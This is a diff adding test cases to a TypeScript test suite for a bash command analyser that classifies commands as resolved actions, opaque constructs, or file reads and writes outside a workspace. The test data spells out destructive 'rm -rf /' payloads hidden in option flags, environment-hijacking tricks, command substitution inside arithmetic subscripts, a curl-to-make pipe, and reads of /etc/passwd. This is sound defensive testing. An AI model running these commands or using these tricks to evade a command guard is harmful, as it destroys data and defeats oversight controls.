@@ -114,6 +114,11 @@ const RESOLVED: [string, string][] = [
   ["tar cf a.tar . --checkpoint-action=exec='rm -rf /'", 'run tar > rm -rf /'],
   ["rsync -e 'rm -rf /' a h.example:", 'run rsync > rm -rf /'],
   ["socat TCP:h.example:1 EXEC:'rm -rf /'", 'run socat > rm -rf /'],
+  ["sort --compress-prog='rm -rf /' f", 'run sort > rm -rf /'],
+  ["sort --c='rm -rf /' f", 'run sort > rm -rf /'],
+  ["git grep --open='rm -rf /' x", 'run git > rm -rf /'],
+  ["git fetch --upload-p='rm -rf /' x", 'run git > rm -rf /'],
+  ["env --split='rm -rf /'", 'run env > rm -rf /'],
   ["at now <<< 'rm -rf /'", 'run at > rm -rf /'],
 ];
 
@@ -186,6 +191,45 @@ const UNRESOLVED: [string, string][] = [
   ['PATH=/tmp/x:$PATH ls', 'opaque environment'],
   ['export LD_PRELOAD=./x.so', 'opaque environment'],
   ['env BASH_ENV=./x bash y', 'opaque environment'],
+  ['for PATH in /tmp/x; do ls; done', 'opaque environment'],
+  ['select PATH in /tmp/x; do ls; done', 'opaque environment'],
+  ['read PATH <<< /tmp/x; ls', 'opaque environment'],
+  ["export 'PATH=/tmp/x'; ls", 'opaque environment'],
+  ['export "BASH_ENV=x"; bash -c ls', 'opaque environment'],
+  ['command export "PATH=/tmp/x"', 'opaque environment'],
+  ['printf -v PATH /tmp/x; ls', 'opaque environment'],
+  ['printf -vPATH /tmp/x; ls', 'opaque environment'],
+  ['declare "PATH=/tmp/x"', 'opaque environment'],
+  ['declare -n r=PATH; r=/tmp/x', 'opaque environment'],
+  ['typeset PATH=/tmp/x', 'opaque environment'],
+  ['f() { local PATH=/tmp/x; ls; }; f', 'opaque environment'],
+  ['readonly PATH=/tmp/x', 'opaque environment'],
+  ['mapfile PATH < x', 'opaque environment'],
+  ['getopts a PATH -a', 'opaque environment'],
+  ['coproc PATH { ls; }', 'opaque environment'],
+  ['exec {PATH}< x', 'opaque environment'],
+  [': ${NODE_OPTIONS:=-r ./x}', 'opaque environment'],
+  ['export "$x"', 'opaque environment'],
+  ['set -a; . ./x', 'opaque environment'],
+  ['MAKEFLAGS=--eval=x make', 'opaque environment'],
+  ['npm_config_script_shell=./x npm test', 'opaque environment'],
+  ['ANYTHING=x ls', 'opaque environment'],
+  ['ANYTHING=x; export ANYTHING; ls', 'opaque environment'],
+  ["a=ls; export 'a=rm'; $a -rf /", 'run $ -rf / ?'],
+  ["PS4='$(rm -rf /)'; set -x; ls", 'opaque environment'],
+  ["for x in 'a[$(rm -rf /)]'; do echo $((x)); done", 'opaque dynamic_script'],
+  ["set -- 'a[$(rm -rf /)]'; (( $1 ))", 'opaque dynamic_script'],
+  ["test -v 'a[$(rm -rf /)]'", 'opaque dynamic_script'],
+  ["[ -v 'a[`rm -rf /`]' ]", 'opaque dynamic_script'],
+  ["[[ -v 'a[$(rm -rf /)]' ]]", 'opaque dynamic_script'],
+  ["read x <<'E'\na[$(rm -rf /)]\nE\necho $((x))", 'opaque dynamic_script'],
+  ["read x <<< 'a[$(rm -rf /)]'; echo ${y:x}", 'opaque dynamic_script'],
+  ["make -E 'x:;rm'", 'opaque inline_code'],
+  ['nice make --ev=x', 'opaque inline_code'],
+  ["make 'A=$(shell rm -rf /)'", 'opaque inline_code'],
+  ["make 'A=x; rm -rf /'", 'opaque inline_code'],
+  ['make -f - <<E\nx:\nE', 'opaque inline_code'],
+  ['curl x.example | make -f -', 'opaque code_from_pipe'],
   ["echo 'open", 'opaque shell_syntax'],
   ['if true; then rm', 'opaque shell_syntax'],
   ['echo $(if)', 'opaque shell_syntax'],
@@ -199,6 +243,44 @@ test.each(UNRESOLVED)('%j is not read for what it may not be', (command, line) =
 
 test('What a walk took for known and could not rely on is gone from the actions', () => {
   expect(bash('f() { $a x; }; a=ls; $a y; printf -v a rm')).toEqual(['run $ x ?', 'run $ y ?', 'run printf -v a rm']);
+});
+
+/** Files behind options, by whatever name. */
+test.each([
+  ['od -c /etc/passwd', 'read /etc/passwd outside'],
+  ['fold -s /etc/passwd', 'read /etc/passwd outside'],
+  ['grep --regex=root /etc/passwd', 'read /etc/passwd outside'],
+  ['diff --from-file=/etc/passwd a', 'read /etc/passwd outside'],
+  ['wc --files0-from=../f', 'read /w/f outside'],
+  ['sort --files0-f=../f', 'read /w/f outside'],
+  ['date -f /etc/passwd', 'read /etc/passwd outside'],
+  ['file -f ../f', 'read /w/f outside'],
+  ['cat --anything=/etc/passwd', 'read /etc/passwd outside'],
+  ['jq -L ../d . f', 'read /w/d outside'],
+  ['git diff --no-index /etc/passwd b', 'read /etc/passwd outside'],
+  ['git commit -F /etc/passwd', 'read /etc/passwd outside'],
+  ['git blame --contents /etc/passwd f', 'read /etc/passwd outside'],
+  ['make -f /tmp/Makefile', 'read /tmp/Makefile outside'],
+  ['make -C /tmp x', 'read /tmp outside'],
+  ['sort --outpu=/etc/x f', 'write /etc/x outside'],
+  ['sort -uo/etc/x f', 'write /etc/x outside'],
+  ['cp --target-dir=/etc f', 'write /etc outside'],
+  ['xxd -r -p in /etc/x', 'write /etc/x outside'],
+  ['go build -o /etc/x', 'write /etc/x outside'],
+])('%j: the file is seen', (command, line) => {
+  expect(bash(command)).toContain(line);
+});
+
+test.each([
+  'NODE_ENV=test CI=1 npm test',
+  'for f in a b; do echo "$f"; done',
+  "printf 'PATH=%s' x",
+  "git commit -m '[x]: `y` and $(z)'",
+  'x=1; y=2; echo $((x + y))',
+  'make test V=1',
+  'path=src; env=test; ls "$path"',
+])('%j hides nothing', (command) => {
+  expect(bash(command).filter((line) => line.startsWith('opaque'))).toEqual([]);
 });
 
 /** Text that only looks like a command. */
